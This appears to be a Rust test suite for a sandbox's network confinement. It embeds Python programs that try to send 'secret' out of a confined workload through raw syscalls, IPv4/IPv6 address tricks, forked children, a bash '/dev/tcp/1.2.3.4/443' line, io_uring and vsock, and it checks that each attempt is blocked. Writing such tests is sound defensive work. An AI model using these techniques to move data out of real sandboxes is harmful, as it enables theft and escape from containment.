//! What a hostile program asks the kernel for itself, in the workload's place as the workload really is: its user, its network, its
//! filter of system calls. The programs are Python's, and call the kernel by numbers (`arch/x86/entry/syscalls/syscall_64.tbl`).

use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr as UnixAddress, UnixListener};

use super::*;
use crate::far_side::NOT_TESTABLE;
use crate::seccomp::{Reach, confine};

/// What every program begins with: calls of the kernel that end the program where they fail, with the reason as its last words.
const PRELUDE: &str = "\
import ctypes, fcntl, mmap, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments, allowed=()):
    answer = libc.syscall(number, *arguments)
    error = ctypes.get_errno()
    if answer < 0 and error not in allowed:
        sys.exit(os.strerror(error))
    return answer
def buffer(data):
    return ctypes.create_string_buffer(data, len(data))
def v4(host, port):
    return buffer(struct.pack('=HH4s8x', 2, socket.htons(port), socket.inet_aton(host)))
def v6(host, port):
    return buffer(struct.pack('=HHI16sI', 10, socket.htons(port), 0, socket.inet_pton(10, host), 0))
def connect(family, to):
    stream = call(41, family, 0o4001, 0)  # socket: SOCK_STREAM, SOCK_NONBLOCK
    call(42, stream, to, len(to), allowed=(115,))  # connect: EINPROGRESS
    time.sleep(0.1)
    call(44, stream, buffer(b'secret'), 6, 0x4000, None, 0, allowed=(11, 32, 104, 111))  # sendto: MSG_NOSIGNAL
def send(family, to):
    call(44, call(41, family, 2, 0), buffer(b'secret'), 6, 0, to, len(to))
";

/// `struct io_uring_params` and `struct io_uring_sqe` (io_uring_setup(2), io_uring_enter(2)): a connection, and with it what is sent.
const IO_URING: &str = "\
params = buffer(bytes(120))
ring = call(425, 2, params)
entries, = struct.unpack_from('=I', params, 0)
tail, = struct.unpack_from('=I', params, 44)
array, = struct.unpack_from('=I', params, 64)
queue = mmap.mmap(ring, array + 4 * entries, offset=0)
requests = mmap.mmap(ring, 64 * entries, offset=0x10000000)
stream = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
to, data = v4('1.2.3.4', 443), buffer(b'secret')
CONNECT, SEND, LINKED = 16, 26, 4
struct.pack_into('=BBHiQQII', requests, 0, CONNECT, LINKED, 0, stream.fileno(), len(to), ctypes.addressof(to), 0, 0)
struct.pack_into('=BBHiQQII', requests, 64, SEND, 0, 0, stream.fileno(), 0, ctypes.addressof(data), 6, 0)
struct.pack_into('=II', queue, array, 0, 1)
struct.pack_into('=I', queue, tail, 2)
if call(426, ring, 2, 0, 0, None, 0) != 2:
    sys.exit('the kernel took less than two requests')
time.sleep(0.3)
";

/// To the host by vsock.
const VSOCK: &str = "\
stream = call(41, 40, 1, 0)
call(42, stream, buffer(struct.pack('=HHII4x', 40, 0, 17653, 2)), 16)
call(44, stream, buffer(b'secret'), 6, 0, None, 0)
";
/// Takes what is sent there, and says so: where the kernel has no host, its loopback transport takes what is for the host, whatever
/// the network (vsock(7)). `_IO(7, 0xb9)` tells the own number, which is none then, or that of the loopback transport.
const VSOCK_HOST: &str = "\
own = fcntl.ioctl(os.open('/dev/vsock', os.O_RDONLY), 0x7b9, bytes(4))
if struct.unpack('=I', own)[0] not in (1, 2**32 - 1):
    sys.exit('there is a real host, and none of its ports is ours')
listener = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
listener.bind((0xffffffff, 17653))
listener.listen()
print('listens', flush=True)
while True:
    print(len(listener.accept()[0].recv(64)), flush=True)
";

const ABSTRACT: &str = "confide-test-outside";

/// How an attempt is recorded.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Recorded {
    /// By what its network drops, or by the broker.
    Dropped,
    /// By the supervisor of the filter, as this call.
    Refused(&'static str),
    /// By nobody: nothing is dropped, for what it asks for is not there.
    Nowhere,
}
use Recorded::{Dropped, Nowhere, Refused};

const PROGRAMS: [(&str, &str, Recorded); 13] = [
    ("a connection by the call itself", "connect(2, v4('1.2.3.4', 443))", Dropped),
    ("a datagram by the call itself", "send(2, v4('1.2.3.4', 4444))", Dropped),
    ("IPv6 by the call itself", "connect(10, v6('2606:4700::1', 443))", Dropped),
    ("a neighbour of IPv6", "connect(10, v6('fd00::2', 443))", Dropped),
    ("IPv4 as IPv6 spells it", "connect(10, v6('::ffff:1.2.3.4', 443))", Dropped),
    ("IPv4 translated to IPv6", "connect(10, v6('64:ff9b::102:304', 443))", Dropped),
    ("IPv4 in a tunnel's address of IPv6", "connect(10, v6('2002:102:304::1', 443))", Dropped),
    ("a datagram over IPv6", "send(10, v6('2606:4700::1', 443))", Dropped),
    (
        "a child of a child",
        "\
for _ in range(2):
    child = call(57)
    if child:
        os._exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
connect(2, v4('1.2.3.4', 443))
",
        Dropped,
    ),
    (
        "a program that a child starts",
        "os.execv('/usr/bin/bash', ['bash', '-c', 'setsid timeout 1 bash -c \"echo secret > /dev/tcp/1.2.3.4/443\" & wait'])",
        Dropped,
    ),
    ("io_uring", IO_URING, Refused("io_uring_setup")),
    ("vsock to the host", VSOCK, Refused("socket(AF_VSOCK, SOCK_STREAM, 0)")),
    (
        "an abstract Unix socket outside",
        "\
stream = socket.socket(socket.AF_UNIX)
stream.connect('\\0confide-test-outside')
stream.send(b'secret')
",
        Nowhere,
    ),
];

/// Runs a program as the workload's user; its last words where it fails.
fn run(program: &str) -> Result<(), String> {
    let mut python = Command::new("/usr/bin/python3");
    python.args(["-c", &format!("{PRELUDE}{program}")]).uid(WORKLOAD_USER).gid(WORKLOAD_USER);
    let output = python.stdout(Stdio::null()).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    if output.status.success() { Ok(()) } else { Err(said.trim().to_owned()) }
}

/// What is outside beside the far side of the network.
struct Outside {
    /// Bytes that it got.
    got: Arc<AtomicUsize>,
    /// Why nobody listens in the host's place.
    no_host: Option<String>,
}

impl Outside {
    fn begin() -> Self {
        let address = UnixAddress::from_abstract_name(ABSTRACT).unwrap();
        let listener = UnixListener::bind_addr(&address).unwrap();
        let all = Arc::new(AtomicUsize::new(0));
        let got = Arc::clone(&all);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let length = stream.unwrap().read(&mut [0; 64]).unwrap();
                got.fetch_add(length, Ordering::SeqCst);
            }
        });
        let mut python = Command::new("setpriv");
        python.args(["--pdeathsig", "KILL", "/usr/bin/python3", "-c", &format!("{PRELUDE}{VSOCK_HOST}")]);
        python.stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut host = python.spawn().unwrap();
        let mut lines = BufReader::new(host.stdout.take().unwrap()).lines();
        if lines.next().is_none() {
            let said = String::from_utf8(host.wait_with_output().unwrap().stderr).unwrap();
            return Self { got: all, no_host: Some(said) };
        }
        let got = Arc::clone(&all);
        std::thread::spawn(move || {
            for line in lines {
                got.fetch_add(line.unwrap().parse().unwrap(), Ordering::SeqCst);
            }
            host.wait().unwrap();
        });
        Self { got: all, no_host: None }
    }

    /// Packets that arrived at the far side, and bytes elsewhere.
    fn arrived(&self, far: &FarSide) -> u64 {
        far.packets() + self.got.load(Ordering::SeqCst) as u64
    }
}

impl Guest {
    /// Does something in the workload's place under its filter. What came of it, and the calls that were refused.
    pub(super) fn confined<T: Send + 'static>(
        &self,
        attempt: impl FnOnce() -> T + Send + 'static,
    ) -> (T, Vec<String>) {
        self.workload(move || {
            let (tell, told) = mpsc::channel();
            let workload = std::thread::spawn(move || {
                tell.send(confine(Reach::Broker).unwrap()).unwrap();
                attempt()
            });
            let supervisor = told.recv().unwrap();
            let mut refused = Vec::new();
            while let Some(attempt) = supervisor.next().unwrap() {
                refused.push(attempt.to_string());
            }
            (workload.join().unwrap(), refused)
        })
    }
}

#[test]
fn no_call_past_every_library_gets_a_byte_out_of_a_confined_workload() {
    const NAME: &str =
        "enforcement::tests::confined::no_call_past_every_library_gets_a_byte_out_of_a_confined_workload";
    if acts_as_broker() {
        return;
    }
    in_a_network_with_users(NAME, || {
        let far = FarSide::new();
        let outside = Outside::begin();
        // Unprotected, each arrives, or would prove nothing.
        for (what, program, _) in PROGRAMS {
            let before = outside.arrived(&far);
            let ended = match &outside.no_host {
                Some(why) if program == VSOCK => Err(why.clone()),
                _ => run(program),
            };
            match ended {
                Ok(()) => assert!(
                    eventually(|| outside.arrived(&far) > before),
                    "{what} does not arrive unprotected"
                ),
                Err(why) => println!("{NOT_TESTABLE}{what}: {}", why.lines().last().unwrap_or_default()),
            }
        }
        let mut guest = Guest::new(far, NAME);
        hear_packets(&mut guest);
        guest.lock();
        for (what, program, recorded) in PROGRAMS {
            let (before, arrived) = (guest.drops(), outside.arrived(&guest.far));
            let (_, refused) = guest.confined(move || run(program));
            match recorded {
                Dropped => {
                    assert!(eventually(|| guest.drops() > before), "{what} has no record: {refused:?}")
                }
                Refused(call) => assert_eq!(refused, [call], "{what}"),
                Nowhere => assert_eq!(refused, [""; 0], "{what}"),
            }
            assert_eq!(outside.arrived(&guest.far), arrived, "{what} gets out");
        }
    });
}
